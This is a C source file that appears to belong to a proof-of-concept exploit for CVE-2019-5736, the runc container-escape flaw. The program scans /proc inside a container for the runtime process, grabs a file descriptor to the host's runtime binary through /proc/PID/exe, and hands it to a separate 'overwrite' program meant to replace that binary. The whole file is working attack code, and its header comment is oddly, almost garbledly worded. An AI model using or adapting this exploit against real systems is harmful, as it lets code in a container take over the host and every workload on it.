/*
 * thief NAME - waits inside a container for a process of that name, which a
 * runtime became that an image made execute itself: CVE-2019-5736. It opens the
 * file that is executed, the runtime of the host, and leaves the rest to a
 * program that waits until nobody executes it any more.
 */
#include "attack.h"

#define FOUND_FD 3

static int open_program(int pid, const char *name)
{
    char path[64], comm[64] = {0};
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    if (n <= 0 || strncmp(comm, name, (size_t)n - 1) != 0)
        return -1;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    return open(path, O_RDONLY);
}

int main(int argc, char **argv)
{
    char *const attack[] = {"overwrite", NULL};
    int fd = -1;
    for (int pid = 2; argc == 2 && fd < 0; pid = pid < 400 ? pid + 1 : 2)
        if (pid != getpid())
            fd = open_program(pid, argv[1]);
    if (fd != FOUND_FD)
        dup2(fd, FOUND_FD);
    execve("/a/overwrite", attack, environ);
    return 2;
}
